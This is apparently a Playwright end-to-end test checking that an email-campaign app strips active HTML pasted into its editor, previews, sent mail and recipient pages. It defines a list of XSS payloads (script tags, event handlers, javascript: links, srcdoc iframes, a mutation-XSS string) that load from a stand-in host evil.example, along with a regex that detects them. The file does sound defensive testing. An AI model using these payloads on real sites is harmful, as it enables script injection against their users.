import { createRequire } from 'node:module';
import { expect, type Page, test } from '@playwright/test';
import type { Api } from '#shared/rpc/rpc.ts';
import { dataFolder, quit, serve } from './support/app.ts';
import { connect } from './support/rpc.ts';
import { complaintsOf, editorOn } from './support/screen.ts';

const { source } = createRequire(import.meta.resolve('@axe-core/playwright'))('axe-core') as { source: string };

// Without a trace every script that a frame refuses is one of ours, or one that got through.
test.use({ actionTimeout: 15_000, trace: 'off' });

const DEED = "top.hacked=(top.hacked||0)+1;alert('hacked')";
const EVIL = 'https://evil.example';
/** What would run; the picture is one that cannot be shown. */
const ACTIVE = [
  `<script>${DEED}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<img src="data:image/png;base64,AAAA" onerror="${DEED}">`,
  `<svg onload="${DEED}"><animate onbegin="${DEED}" attributeName="x" dur="1s"></animate></svg>`,
  `<a href="javascript:${DEED}">a trap</a>`,
  `<a href="&#106;avascript:${DEED}">another</a>`,
  `<iframe srcdoc="<script>${DEED}</script>"></iframe>`,
  `<object data="${EVIL}/b"></object><embed src="${EVIL}/c">`,
  `<form action="${EVIL}/f"><input autofocus onfocus="${DEED}"></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${DEED}&gt;">`,
  `<div onclick="${DEED}" onmouseover="${DEED}">harmless words</div>`,
].join('\n');
/** What would tell somebody that it was looked at. In HTML of one's own it may stand; from a paste it may not. */
const NOSY = `<style>@import url(${EVIL}/d.css);</style><p style="background:url('${EVIL}/e.png')">seen</p><img src="${EVIL}/g.png">`;
const TRACES =
  /<script|onerror|onload|onbegin|onfocus|onclick|onmouseover|javascript:|<iframe|<object|<embed|<form|hacked|evil\.example/i;

/** A list as somebody might call it. */
const LIST = `<img src=x onerror="${DEED}">`;

test('what is pasted runs nowhere: not in the editor, not in the preview, not in the mail', async ({ page }) => {
  const { folder, remove } = dataFolder();
  const app = await serve(folder);
  const complaints = complaintsOf(page, { refusals: true });
  const reached: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(EVIL)) reached.push(request.url());
  });
  await page.goto(app.url);
  await page.getByRole('button', { name: 'New campaign' }).first().click();
  await page.getByRole('textbox', { name: 'Subject' }).fill(`<img src=x onerror="${DEED}">`);
  await page.getByRole('link', { name: 'Go on to the design' }).click();
  const editor = editorOn(page);
  const { message, block, choose, add, saved } = editor;

  await test.step('into a text where it stands', async () => {
    await add('Text');
    await copy(page, ACTIVE + NOSY);
    const place = await editor.open(block(/^Text,/));
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.press('ControlOrMeta+V');
    await expect(place).toContainText('harmless words');
    expect(await place.innerHTML()).not.toMatch(TRACES);
    await place.getByText('a trap').click();
    await page.keyboard.press('Escape');
    await expect(block(/harmless words|a trap/)).toHaveCount(1);
  });

  await test.step('into a heading, which takes words only', async () => {
    await add('Heading');
    await copy(page, ACTIVE, '<b onclick="alert(1)">bold</b>');
    const place = await editor.open(block(/^Heading,/));
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.press('ControlOrMeta+V');
    await expect(place).toHaveText('<b onclick="alert(1)">bold</b>');
    await page.keyboard.press('Escape');
    await expect(message.getByText('<b onclick="alert(1)">bold</b>')).toBeVisible();
  });

  await test.step('into a block of HTML, word by word', async () => {
    await add('HTML');
    await choose(block(/^HTML,/));
    const source = page.getByRole('complementary', { name: 'Properties' }).getByRole('textbox').first();
    await source.fill(`${ACTIVE}<p>the end of it</p>`);
    await expect(message.getByText('the end of it')).toBeVisible();
    await add('Footer');
    await expect(block(/^Footer,/)).toHaveCount(1);
    await saved();
  });
  expect(withoutWords(await message.locator('html').innerHTML())).not.toMatch(TRACES);

  await test.step('the review shows it without its poison', async () => {
    await page.getByRole('button', { name: 'Review', exact: true }).click();
    const preview = page.frameLocator('iframe[title="The message"]');
    await expect(preview.getByText('harmless words').first()).toBeVisible();
    expect(withoutWords(await preview.locator('body').innerHTML())).not.toMatch(TRACES);
    await preview.getByText('a trap').first().click();
  });

  await test.step('the mail is clean, and so is its place in the test inbox', async () => {
    await page.getByRole('link', { name: /^Audience/ }).click();
    await page.getByLabel('Sender', { exact: true }).first().click();
    await page.getByRole('option').first().click();
    await page.getByRole('button', { name: 'Send a test' }).click();
    const dialog = page.getByRole('dialog', { name: 'Send a test' });
    await dialog.getByRole('combobox', { name: 'To' }).fill('me@hearth.example');
    await dialog.getByRole('button', { name: /^Send \d+ tests?$/ }).click();
    await expect(dialog.getByText('accepted').first()).toBeVisible();
    const { api, close } = await connect(app);
    const [row] = (await api.inbox.page({})).rows;
    const mail = await api.inbox.get({ id: row?.id ?? '' });
    close();
    expect(withoutWords(mail.html ?? '')).not.toMatch(TRACES);
    expect(mail.html).toContain('harmless words');
    await page.keyboard.press('Escape');
    await page.getByRole('link', { name: 'Test inbox' }).click();
    await page.getByText('[Test]').first().click();
    const shown = page.frameLocator('main iframe').first();
    await expect(shown.getByText('harmless words').first()).toBeVisible();
    await shown.getByText('a trap').first().click();
  });

  await test.step('on the pages that recipients reach, where names are words and only buttons change anything', async () => {
    const { api, close } = await connect(app);
    await api.settings.change({ publicAddress: app.publicUrl });
    const { id: listId } = await api.lists.create({ name: LIST });
    await page.goto(`${app.url.split('#')[0]}#/contacts/lists`);
    await page.getByRole('button', { name: `Change ${LIST}` }).click();
    await page.getByRole('menuitem', { name: 'Settings…' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('switch', { name: 'Double opt-in' }).click();
    await expect(dialog.getByRole('figure').getByText('Please confirm')).toBeVisible();
    await axe(page);
    await dialog.getByRole('button', { name: 'Save settings' }).click();
    await expect(dialog).toHaveCount(0);

    await api.contacts.create({ email: 'reader@x.example', firstName: ACTIVE.slice(0, 60), listId });
    const reader = await page.context().newPage();
    const complaintsThere = complaintsOf(reader);
    await reader.goto(await linkTo('confirm', { api, about: 'Please confirm' }));
    await expect(reader.getByText(LIST)).toBeVisible();
    await axe(reader);
    await reader.getByRole('button', { name: 'Yes, I want it' }).click();
    await expect(reader.getByRole('status')).toContainText('confirmed');

    const { id } = await api.campaigns.create({ name: 'To the list' });
    const { revision } = await api.campaigns.get({ id });
    const [brand] = await api.brands.all({});
    const words = '<p>Hello</p><a href="{{ unsubscribe_url }}">Leave</a> <a href="{{ preferences_url }}">Choose</a>';
    const document = { version: 1, kind: 'html', html: words, text: '' } as const;
    const to = { audience: { listIds: [listId] }, brandId: brand?.id ?? null };
    await api.campaigns.change({ id, revision, subject: 'To choose', document, ...to });
    await api.campaigns.send({ id, expected: 1 });
    await reader.goto(await linkTo('p', { api, about: 'To choose' }));
    for (const colorScheme of ['light', 'dark'] as const) {
      await reader.emulateMedia({ colorScheme });
      await axe(reader);
    }
    const choice = reader.getByRole('checkbox', { name: LIST });
    await expect(choice).toBeChecked();
    const save = reader.getByRole('button', { name: 'Save my choice' });
    await choice.uncheck();
    await save.click();
    await expect(choice).toHaveAccessibleDescription('you left it');
    await choice.check();
    await save.click();
    await expect(reader.getByRole('status')).toContainText('saved');
    await expect(choice).toBeChecked();
    expect(await reader.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
    expect(complaintsThere).toEqual([]);
    await reader.close();
    close();
  });

  expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
  expect(reached).toEqual([]);
  expect(complaints).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  await quit(app);
  remove();
});

/** Where a link to a page leads in the newest message with such a subject. */
async function linkTo(path: string, { api, about }: { api: Api; about: string }): Promise<string> {
  const find = async () => {
    const { rows } = await api.inbox.page({ search: about });
    const html = rows[0] ? (await api.inbox.get({ id: rows[0].id })).html : '';
    return new RegExp(`href="([^"]+/${path}/[^"]+)"`).exec(html ?? '')?.[1] ?? '';
  };
  await expect.poll(find, { timeout: 15_000 }).not.toBe('');
  return find();
}

/** As in accessibility.e2e.ts: frames of messages refuse all scripts, so axe runs in the page itself. */
async function axe(page: Page): Promise<void> {
  if (!(await page.evaluate(() => 'axe' in window))) await page.evaluate(source);
  const found = await page.evaluate(async () => {
    const { axe } = window as unknown as {
      axe: { run: (options: object) => Promise<{ violations: { id: string; impact: string; nodes: { html: string }[] }[] }> };
    };
    return (await axe.run({ iframes: false, resultTypes: ['violations'] })).violations;
  });
  expect(found.filter(({ impact }) => impact === 'serious' || impact === 'critical')).toEqual([]);
}

/** Puts something on the clipboard as another program would, which the browser does not look through. */
async function copy(page: Page, html: string, text = 'plain words'): Promise<void> {
  await page.evaluate(
    ([rich = '', plain = '']) => {
      const fill = (event: ClipboardEvent) => {
        event.clipboardData?.setData('text/html', rich);
        event.clipboardData?.setData('text/plain', plain);
        event.preventDefault();
        event.stopImmediatePropagation();
      };
      document.addEventListener('copy', fill, { capture: true, once: true });
    },
    [html, text],
  );
  await page.keyboard.press('ControlOrMeta+C');
}

/** The page without what is only said in it: words that name a script are no script. */
const withoutWords = (html: string): string => html.replace(/&lt;[\s\S]*?&gt;/g, '');
